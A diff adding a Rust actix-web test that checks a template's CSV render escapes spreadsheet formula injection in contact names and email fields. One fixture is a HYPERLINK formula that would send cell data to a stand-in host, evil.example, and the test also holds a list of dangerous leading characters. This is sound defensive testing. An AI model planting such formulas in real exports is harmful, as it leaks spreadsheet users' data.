@@ -647,6 +647,60 @@ async fn csv_export_is_safe_in_a_spreadsheet() {
     assert_eq!(filtered.body.lines().count(), 2, "{}", filtered.body);
 }
 
+/// The follow-up render is a CSV a mailing tool (or a person) opens in a spreadsheet: a
+/// contact's name that is a formula reaches no cell as one, the error column included.
+#[actix_web::test]
+async fn followup_render_csv_is_safe_in_a_spreadsheet() {
+    let mut app = spawn().await;
+    create_contact(
+        &app,
+        &[
+            ("name", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
+            ("email", "evil@example.org"),
+        ],
+    );
+    create_contact(&app, &[("name", "-2+3"), ("email", "minus@example.org")]);
+    app.signed_in_as("editor@example.org", Role::Editor).await;
+    let saved = app
+        .post(
+            "/templates",
+            &[
+                ("name", "Hello"),
+                ("kind", "contact"),
+                ("subject", "{{ contact.name }}"),
+                ("body", "@{{ contact.email }}"),
+            ],
+        )
+        .await;
+    let url = saved.location().expect("template").to_string();
+    let csv = app.get(&format!("{url}/render.csv")).await;
+    csv.assert_status(200);
+    let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
+    let rows: Vec<Vec<String>> = reader
+        .records()
+        .map(|r| r.expect("row").iter().map(str::to_string).collect())
+        .collect();
+    assert_eq!(rows.len(), 2, "{}", csv.body);
+    let evil = rows
+        .iter()
+        .find(|r| r[1] == "evil@example.org")
+        .expect("row");
+    assert_eq!(evil[2], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
+    assert_eq!(evil[3], "'@evil@example.org");
+    let minus = rows
+        .iter()
+        .find(|r| r[1] == "minus@example.org")
+        .expect("row");
+    assert_eq!(minus[2], "'-2+3");
+    for cell in rows.iter().flatten() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{cell:?} in {}",
+            csv.body
+        );
+    }
+}
+
 #[actix_web::test]
 async fn documents_upload_download_and_refusals() {
     let mut app = spawn().await;
